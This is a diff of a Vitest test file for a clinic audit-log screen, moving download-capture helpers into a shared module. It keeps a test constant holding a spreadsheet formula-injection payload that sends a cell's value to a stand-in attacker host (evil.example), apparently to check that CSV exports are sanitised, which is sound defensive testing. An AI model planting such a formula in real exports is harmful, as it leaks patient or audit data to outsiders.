@@ -2,32 +2,12 @@ import { screen, within } from '@testing-library/react';
 import Papa from 'papaparse';
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { db } from '../../../../mocks/db';
+import { captureDownloads, readText } from '../../../../tests/downloads';
 import { patientIdOf, renderRoute } from '../../../../tests/render';
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 
-/** Catches the file the browser would save, as text. */
-function captureDownloads() {
-  const files: Blob[] = [];
-  vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
-    files.push(blob as Blob);
-    return 'blob:audit-log';
-  });
-  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {});
-  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
-  return files;
-}
-
 afterEach(() => vi.restoreAllMocks());
-
-function readText(blob: Blob): Promise<string> {
-  return new Promise((resolve, reject) => {
-    const reader = new FileReader();
-    reader.onload = () => resolve(reader.result as string);
-    reader.onerror = () => reject(new Error('Could not read the exported file'));
-    reader.readAsText(blob);
-  });
-}
 
 describe('Audit log (clinic managers)', { timeout: 40_000 }, () => {
   it('filters by who, and keeps the filter and the page in the address as ids', async () => {
